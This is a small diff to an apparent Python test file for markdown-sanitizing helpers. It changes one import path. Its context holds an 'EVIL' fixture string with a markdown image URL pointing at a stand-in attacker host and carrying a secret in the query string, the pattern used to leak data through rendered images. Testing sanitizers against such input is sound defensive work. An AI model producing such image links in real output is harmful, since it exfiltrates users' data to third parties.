@@ -4,7 +4,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from app.dashboard.safe_text import WORD_JOINER, inert, safe_markdown, safe_stream
+from app.display.safe_text import WORD_JOINER, inert, safe_markdown, safe_stream
 
 EVIL = "Here: ![pixel](https://attacker.example/p.png?q=secret) and [a link](https://example.com)"
 
